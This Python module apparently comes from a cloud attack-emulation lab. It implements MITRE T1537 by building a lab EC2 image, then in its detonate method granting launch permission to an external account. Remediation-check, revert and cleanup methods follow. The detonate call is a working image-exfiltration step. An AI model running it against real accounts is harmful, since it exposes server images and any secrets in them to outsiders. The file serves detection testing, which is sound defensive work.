"""ec2-share-ami: share an AMI with an external account (T1537)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.iam_role import EXTERNAL_ACCOUNT
from lab.attacks.resources import find_tagged, missing_ok, tag_specifications
from lab.attacks.target_instance import delete_target, ensure_target
from lab.emulator.endpoints import Endpoints


class Ec2ShareAmi(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        """An AMI made from a lab instance (the image of a workload server)."""
        prerequisites = ensure_target(endpoints, self.id)
        ec2 = endpoints.client("ec2", "harness")
        images = find_tagged(ec2, "describe_images", "Images", self.id)
        prerequisites["image_id"] = (
            images[0]["ImageId"]
            if images
            else ec2.create_image(
                InstanceId=prerequisites["instance_id"],
                Name=f"lab-target-image-{prerequisites['instance_id']}",
                TagSpecifications=tag_specifications("image", self.id),
            )["ImageId"]
        )
        self.revert(endpoints, prerequisites)
        return prerequisites

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ec2", "attacker").modify_image_attribute(
            ImageId=prerequisites["image_id"],
            LaunchPermission={"Add": [{"UserId": EXTERNAL_ACCOUNT}]},
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """Nobody outside the account may launch the image."""
        with missing_ok("InvalidAMIID.NotFound"):
            return not endpoints.client("ec2", "observer").describe_image_attribute(
                ImageId=prerequisites["image_id"], Attribute="launchPermission"
            )["LaunchPermissions"]
        return True

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "harness")
        with missing_ok("InvalidAMIID.NotFound"):
            granted = ec2.describe_image_attribute(
                ImageId=prerequisites["image_id"], Attribute="launchPermission"
            )["LaunchPermissions"]
            if granted:
                ec2.modify_image_attribute(
                    ImageId=prerequisites["image_id"], LaunchPermission={"Remove": granted}
                )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        with missing_ok("InvalidAMIID.NotFound", "InvalidAMIID.Unavailable"):
            endpoints.client("ec2", "harness").deregister_image(ImageId=prerequisites["image_id"])
        delete_target(endpoints, prerequisites, self.id)


TECHNIQUE = Ec2ShareAmi
